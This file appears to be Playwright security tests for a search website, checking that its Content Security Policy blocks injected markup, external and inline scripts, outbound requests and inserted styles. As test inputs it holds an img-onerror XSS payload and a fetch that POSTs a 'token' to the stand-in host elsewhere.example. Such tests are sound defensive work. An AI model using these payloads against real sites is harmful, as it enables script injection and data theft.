import { expect, open, test } from '../support/open-page.ts';

const ATTACK = '<img src=x onerror="document.title = \'çalındı\'">';
const REFUSALS = /Trusted|Refused|violates|refused|Content Security Policy/;

test.use({ allowedErrors: [REFUSALS] });

test('markup injected into a page runs nothing and contacts no other site', async ({ page }) => {
  await open(page, '/search');
  const tried = await page.evaluate(async (markup) => {
    const outcome = async (attempt: () => unknown) => {
      try {
        await attempt();
        return 'done';
      } catch {
        return 'refused';
      }
    };
    const script = document.createElement('script');
    const link = document.createElement('a');
    return {
      markup: await outcome(() => {
        link.innerHTML = markup;
      }),
      elsewhere: await outcome(() => {
        script.src = 'https://elsewhere.example/a.js';
      }),
      text: await outcome(() => {
        script.textContent = 'document.title = "çalındı"';
        document.body.append(script);
      }),
      sent: await outcome(() => fetch('https://elsewhere.example/', { method: 'POST', body: 'token' })),
    };
  }, ATTACK);
  expect(tried).toEqual({ markup: 'refused', elsewhere: 'refused', text: 'refused', sent: 'refused' });
  await expect(page).not.toHaveTitle(/çalındı/);
});

test('a page opened from another one still has structured data for search engines', async ({ page }) => {
  await open(page, '/search');
  await page.getByRole('banner').getByRole('link', { name: /Peyda/ }).first().click();
  await expect(page.getByRole('heading', { level: 1 })).toContainText(/icra/i);
  await expect(page.locator('script[type="application/ld+json"]').first()).toBeAttached();
});

test('a style inserted into a page has no effect', async ({ page }) => {
  await open(page, '/');
  const display = await page.evaluate(() => {
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    document.head.append(style);
    return getComputedStyle(document.body).display;
  });
  expect(display).not.toBe('none');
});

test('scrolling stays locked behind a dialog, without an inserted style', async ({ page }) => {
  await open(page, '/search');
  await page.getByRole('button', { name: 'Premium', exact: false }).first().click();
  await expect(page.getByRole('dialog').first()).toBeVisible();
  expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).toContain('hidden');
  expect(await page.evaluate(() => document.adoptedStyleSheets.length)).toBe(1);
});
